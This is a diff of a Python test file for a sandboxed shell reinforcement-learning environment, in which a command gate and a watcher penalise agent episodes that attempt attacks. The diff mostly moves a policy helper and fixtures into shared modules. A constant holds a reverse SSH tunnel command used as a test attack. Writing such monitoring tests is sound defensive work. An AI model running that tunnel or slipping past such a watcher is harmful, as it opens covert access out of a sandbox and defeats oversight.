@@ -4,9 +4,7 @@ episodes with a penalty, whether the gate refuses them or the watcher catches th
 from __future__ import annotations
 
 import shutil
-from collections.abc import Iterator
 from pathlib import Path
-from typing import Any
 
 import gymnasium
 import pytest
@@ -14,46 +12,18 @@ from gymnasium.error import ResetNeeded
 from gymnasium.utils.env_checker import check_env
 
 from corral.ledger import Ledger
-from corral.policy import Policy
 from corral.rl import ENV_ID, EpisodeOver, ShellEnv
 from corral.sandbox import Result
-from corral.watch.gpu import FakeGpuBackend
 from corral.watch.watcher import Watcher
 
 from ..egress.servers import SSHServer
+from ..watching import policy
 
 TUNNEL = "ssh -N -R 9999:127.0.0.1:22 agent@127.0.0.2"
 
 
-def policy(*allow: str, **extra: Any) -> Policy:
-    """Everything allowed by the gate, the proxy open to ``allow``: what stops an attack
-    here is the watcher."""
-    return Policy.from_dict(
-        {
-            "version": 1,
-            "extends": "strict",
-            "commands": {"default": "allow", "threats": False},
-            "network": {"mode": "proxy", "allow": list(allow)},
-            **extra,
-        }
-    )
-
-
 def exited_cleanly(result: Result, env: ShellEnv) -> float:
     return 1.0 if result.exit_code == 0 else 0.0
-
-
-@pytest.fixture
-def ledger() -> Iterator[Ledger]:
-    with Ledger.memory() as led:
-        yield led
-
-
-@pytest.fixture(scope="module")
-def watcher() -> Iterator[Watcher]:
-    w = Watcher(gpu=FakeGpuBackend())
-    yield w
-    w.close()
 
 
 @pytest.fixture
